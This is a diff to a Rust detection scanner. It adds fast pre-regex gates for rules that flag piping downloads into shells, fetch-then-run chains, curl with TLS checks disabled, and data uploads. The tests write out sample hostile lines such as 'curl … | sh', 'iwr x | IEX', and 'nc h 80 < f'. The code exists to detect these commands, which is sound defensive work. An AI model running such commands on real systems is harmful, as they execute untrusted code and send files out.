@@ -778,24 +778,166 @@ nc ",
     ),
 ];
 
+/// A cheap test run before a rule's regex on a line where only `anchors`
+/// (all of the rule's anchors when `None`) were found. It must be exact: it
+/// may return false only when the regex cannot match the line, which the
+/// comment on each entry argues from the pattern.
+pub(crate) struct Gate {
+    /// The rule's id and output (signals share the id `signal`).
+    pub rule: (&'static str, Output),
+    pub anchors: Option<&'static [&'static str]>,
+    pub test: fn(&[u8]) -> bool,
+}
+
+pub(crate) static GATES: &[Gate] = &[
+    // Every branch needs `|`, optional `\s*`, then `sudo`, `/bin/`, a shell,
+    // an interpreter or `iex`.
+    Gate {
+        rule: ("download-exec.pipe-shell", Output::Report),
+        anchors: None,
+        test: pipe_to_interpreter,
+    },
+    // `(?:&&|;)` is not optional.
+    Gate {
+        rule: ("download-exec.fetch-then-run", Output::Report),
+        anchors: None,
+        test: |t| memchr::memchr(b';', t).is_some() || memchr::memmem::find(t, b"&&").is_some(),
+    },
+    // With `curl` as the only anchor, only the `\bcurl\b…(-k|--insecure)`
+    // branch can match: each other branch holds another anchor.
+    Gate {
+        rule: ("tls.verify-disabled", Output::Report),
+        anchors: Some(&["curl"]),
+        test: curl_insecure_flag,
+    },
+    // With `curl`/`wget` as the only anchors, the branches left are the curl
+    // upload flags, `wget …--post-`, `\bscp\s` and `\bnc … <`: each other
+    // branch holds another anchor.
+    Gate {
+        rule: ("signal", Output::Signal(Signal::HttpSend)),
+        anchors: Some(&["curl", "wget"]),
+        test: |t| {
+            curl_upload_flag(t)
+                || contains_ci(t, b"--post-")
+                || contains_ci(t, b"scp")
+                || memchr::memchr(b'<', t).is_some()
+        },
+    },
+];
+
+/// `\s` of a byte regex without Unicode.
+fn is_space(b: u8) -> bool {
+    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
+}
+
+/// ASCII case-insensitive substring test (`needle` lowercase).
+pub(crate) fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
+    let Some((&first, rest)) = needle.split_first() else {
+        return true;
+    };
+    memchr::memchr2_iter(first, first.to_ascii_uppercase(), hay).any(|i| {
+        hay.len() - i > rest.len() && hay[i + 1..i + 1 + rest.len()].eq_ignore_ascii_case(rest)
+    })
+}
+
+/// A `|` followed by optional whitespace and a byte that can start `sudo`,
+/// `/bin/`, `/usr/bin/`, `sh`, `bash`, `zsh`, `dash`, `ksh`, `fish`,
+/// `python`, `perl`, `node`, `ruby` or `iex`.
+fn pipe_to_interpreter(t: &[u8]) -> bool {
+    memchr::memchr_iter(b'|', t).any(|i| {
+        t[i + 1..]
+            .iter()
+            .find(|&&b| !is_space(b))
+            .is_some_and(|b| b"s/bzdkfpnri".contains(&b.to_ascii_lowercase()))
+    })
+}
+
+/// Whitespace, then `-` and letters holding `k`, then whitespace or the end;
+/// or `--insecure` there.
+fn curl_insecure_flag(t: &[u8]) -> bool {
+    memchr::memchr_iter(b'-', t).any(|i| {
+        if i == 0 || !is_space(t[i - 1]) {
+            return false;
+        }
+        let rest = &t[i + 1..];
+        let letters = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
+        let ends = |n: usize| rest.get(n).is_none_or(|&b| is_space(b));
+        rest[..letters]
+            .iter()
+            .any(|b| b.eq_ignore_ascii_case(&b'k'))
+            && ends(letters)
+            || rest.len() >= 9 && rest[..9].eq_ignore_ascii_case(b"-insecure") && ends(9)
+    })
+}
+
+/// Whitespace, then `-d`, `-f`, `-t`, `-x`, `--d…`, `--f…`, `--u…` or `--j…`.
+fn curl_upload_flag(t: &[u8]) -> bool {
+    memchr::memchr_iter(b'-', t).any(|i| {
+        if i == 0 || !is_space(t[i - 1]) {
+            return false;
+        }
+        match t.get(i + 1).map(u8::to_ascii_lowercase) {
+            Some(b'd' | b'f' | b't' | b'x') => true,
+            Some(b'-') => t
+                .get(i + 2)
+                .is_some_and(|b| b"dfuj".contains(&b.to_ascii_lowercase())),
+            _ => false,
+        }
+    })
+}
+
 /// All anchors of all rules, lowercase, with the rule each belongs to.
 pub(crate) struct Prefilter {
     pub ac: AhoCorasick,
     /// Pattern index → bit mask of the rules that use it (each distinct
-    /// anchor is searched once, however many rules share it).
+    /// anchor is searched once, however many rules share it). Bit
+    /// `RULES.len() + j` stands for `GATES[j]`'s anchors.
     pub rules: Vec<u128>,
+    /// `GATES[j]` → the index of its rule.
+    pub gate_rule: Vec<usize>,
+}
+
+impl Prefilter {
+    /// The rules whose regex must run on `text`, given the anchor bits found
+    /// on it: a gated bit becomes its rule's bit when the gate passes.
+    pub fn resolve(&self, mask: u128, text: &[u8]) -> u128 {
+        let mut gated = mask >> RULES.len();
+        let mut mask = mask & ((1u128 << RULES.len()) - 1);
+        while gated != 0 {
+            let j = gated.trailing_zeros() as usize;
+            gated &= gated - 1;
+            let bit = 1u128 << self.gate_rule[j];
+            if mask & bit == 0 && (GATES[j].test)(text) {
+                mask |= bit;
+            }
+        }
+        mask
+    }
 }
 
 pub(crate) static PREFILTER: LazyLock<Prefilter> = LazyLock::new(|| {
     let mut pats: Vec<&'static str> = Vec::new();
     let mut rules: Vec<u128> = Vec::new();
+    let gate_rule: Vec<usize> = GATES
+        .iter()
+        .map(|g| {
+            RULES
+                .iter()
+                .position(|r| (r.id, r.output) == g.rule)
+                .expect("gate rule")
+        })
+        .collect();
     for (i, r) in RULES.iter().enumerate() {
         for a in r.anchors {
+            let gate = GATES.iter().enumerate().position(|(j, g)| {
+                gate_rule[j] == i && g.anchors.is_none_or(|set| set.contains(a))
+            });
+            let bit = 1u128 << gate.map_or(i, |j| RULES.len() + j);
             match pats.iter().position(|p| p == a) {
-                Some(at) => rules[at] |= 1u128 << i,
+                Some(at) => rules[at] |= bit,
                 None => {
                     pats.push(a);
-                    rules.push(1u128 << i);
+                    rules.push(bit);
                 }
             }
         }
@@ -807,7 +949,11 @@ pub(crate) static PREFILTER: LazyLock<Prefilter> = LazyLock::new(|| {
         .prefilter(false)
         .build(&pats)
         .expect("anchors");
-    Prefilter { ac, rules }
+    Prefilter {
+        ac,
+        rules,
+        gate_rule,
+    }
 });
 
 pub(crate) static COMPILED: LazyLock<Vec<Regex>> = LazyLock::new(|| {
@@ -1027,8 +1173,159 @@ mod tests {
                 assert!(!a[1..].contains('\n'), "{}: {a:?}", r.id);
             }
         }
-        assert!(RULES.len() <= 128, "rule masks are u128");
+        assert!(
+            RULES.len() + GATES.len() <= 128,
+            "rule masks are u128, with a bit per gate"
+        );
         let _ = &PREFILTER.ac;
+    }
+
+    fn rule_of(g: &Gate) -> usize {
+        RULES
+            .iter()
+            .position(|r| (r.id, r.output) == g.rule)
+            .unwrap()
+    }
+
+    #[test]
+    fn gates_let_through_what_their_rule_can_match() {
+        let pass = |rule: &str, t: &str| {
+            let j = GATES.iter().position(|g| g.rule.0 == rule).unwrap();
+            (GATES[j].test)(t.as_bytes())
+        };
+        for t in [
+            "curl -fsSL https://x.example/i.sh | sh",
+            "curl x |\tsudo -E bash",
+            "curl x |\x0b/bin/sh",
+            "wget -qO- x | python3 -",
+            "iwr x | IEX",
+            "curl x ||sh",
+        ] {
+            assert!(pass("download-exec.pipe-shell", t), "{t}");
+        }
+        assert!(!pass("download-exec.pipe-shell", "curl -s x | jq .id"));
+        assert!(pass("download-exec.fetch-then-run", "curl -o x y && ./x"));
+        assert!(pass("download-exec.fetch-then-run", "curl -o x y; sh x"));
+        assert!(!pass("download-exec.fetch-then-run", "curl -o x y & ./x"));
+        for t in [
+            "curl -sk https://x",
+            "curl https://x -k",
+            "curl\t-K x",
+            "curl --insecure x",
+            "curl --INSECURE",
+        ] {
+            assert!(pass("tls.verify-disabled", t), "{t}");
+        }
+        for t in ["curl -s -H k x", "curl x-k y", "curl --insecurely x"] {
+            assert!(!pass("tls.verify-disabled", t), "{t}");
+        }
+        for t in [
+            "curl -d @f x",
+            "curl -X POST x",
+            "curl --json {} x",
+            "curl --upload-file f x",
+            "wget --post-file=f x",
+            "curl x; SCP\tf h:",
+            "curl x; nc h 80 < f",
+        ] {
+            assert!(pass("signal", t), "{t}");
+        }
+        assert!(!pass("signal", "curl -s -H 'Accept: x' https://x | jq"));
+    }
+
+    /// Where a gate says no, its rule's regex does not match either (given
+    /// that only the gate's anchors are on the line).
+    #[test]
+    fn gates_are_exact_on_generated_lines() {
+        let frags = [
+            "curl",
+            "CURL",
+            "wget",
+            " -k",
+            " -sK ",
+            " --insecure",
+            " -d ",
+            " -X POST",
+            " --data",
+            "--post-data",
+            " scp\t",
+            "<",
+            " | ",
+            "|sh",
+            "| bash",
+            "|  sudo -E python3 -",
+            "| jq",
+            "| iex",
+            "|\x0bsh",
+            ";",
+            "&&",
+            " -o x",
+            " > f",
+            " ./run",
+            "chmod +x",
+            " ",
+            "\t",
+            "x",
+            "-",
+            "k",
+            "https://h/",
+            "node",
+            "|",
+        ];
+        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
+        let mut next = move || {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            seed
+        };
+        let mut checked = 0;
+        for _ in 0..20_000 {
+            let n = 1 + next() % 12;
+            let line: String = (0..n)
+                .map(|_| frags[(next() % frags.len() as u64) as usize])
+                .collect();
+            let lower = line.to_ascii_lowercase();
+            for g in GATES {
+                let ri = rule_of(g);
+                let others = RULES[ri]
+                    .anchors
+                    .iter()
+                    .filter(|a| g.anchors.is_some_and(|set| !set.contains(a)))
+                    .any(|a| lower.contains(a));
+                if others || (g.test)(line.as_bytes()) {
+                    continue;
+                }
+                checked += 1;
+                assert!(
+                    !COMPILED[ri].is_match(line.as_bytes()),
+                    "{}: {line:?}",
+                    RULES[ri].id
+                );
+            }
+        }
+        assert!(checked > 10_000);
+    }
+
+    #[test]
+    fn gated_anchors_resolve_to_their_rule() {
+        let pf = &*PREFILTER;
+        let tls = RULES
+            .iter()
+            .position(|r| r.id == "tls.verify-disabled")
+            .unwrap();
+        let mask_of = |t: &str| {
+            let mut mask = 0u128;
+            for m in pf.ac.find_overlapping_iter(t) {
+                mask |= pf.rules[m.pattern().as_usize()];
+            }
+            pf.resolve(mask, t.as_bytes())
+        };
+        assert_ne!(mask_of("curl -sk https://x") & (1 << tls), 0);
+        assert_eq!(mask_of("curl -s https://x") & (1 << tls), 0);
+        // Another anchor of the rule: the regex runs whatever the gate says.
+        assert_ne!(mask_of("curl -s x --no-check-certificate") & (1 << tls), 0);
+        assert_eq!(mask_of("curl -s x") >> RULES.len(), 0);
     }
 
     #[test]
